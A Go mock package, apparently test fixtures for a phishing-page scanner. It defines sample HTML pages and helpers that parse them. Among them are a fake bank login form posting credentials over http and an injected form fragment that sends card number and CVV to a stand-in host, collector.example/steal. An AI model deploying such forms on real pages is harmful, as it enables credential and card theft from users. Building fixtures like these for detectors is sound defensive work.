package mock

import (
	"gitlab.com/phishker/scanner/page"
)

// PhishingLoginHTML is a bank style login form that posts credentials in the
// clear
const PhishingLoginHTML = `<html>
<head><title>MyBank Online</title></head>
<body>
  <h1>MyBank Online</h1>
  <p>Sign in to continue.</p>
  <form id="login" action="http://mybank-login.example/session" method="post">
    <input type="text" name="username">
    <input type="password" name="password">
    <button type="submit">Log in</button>
  </form>
</body>
</html>`

// BenignHTML has no forms or links of interest
const BenignHTML = `<html>
<head><title>Recipes</title></head>
<body>
  <h1>Soup of the day</h1>
  <p>Tomato and basil.</p>
  <a href="/archive">Archive</a>
</body>
</html>`

// SecureLoginHTML posts credentials over https
const SecureLoginHTML = `<html>
<body>
  <form action="https://secure.example/session">
    <input type="text" name="user">
    <input type="password" name="pw">
  </form>
</body>
</html>`

// EmptyFormHTML has an empty body apart from a container forms can be
// appended to
const EmptyFormHTML = `<html><body><div id="root"></div></body></html>`

// InsecureFormFragment can be appended to a document to simulate a form
// injected after load
const InsecureFormFragment = `<form action="http://collector.example/steal"><input type="text" name="cardnumber"><input type="text" name="cvv"></form>`

// MakeMockPage parses source as the document loaded from rawURL, panics on
// error
func MakeMockPage(rawURL, source string) *page.Context {
	pg, err := page.ParseString(rawURL, source)
	if err != nil {
		panic(err)
	}
	return pg
}

// MakePhishingLoginPage is PhishingLoginHTML served over http from
// mybank-login.example
func MakePhishingLoginPage() *page.Context {
	return MakeMockPage("http://mybank-login.example/login", PhishingLoginHTML)
}
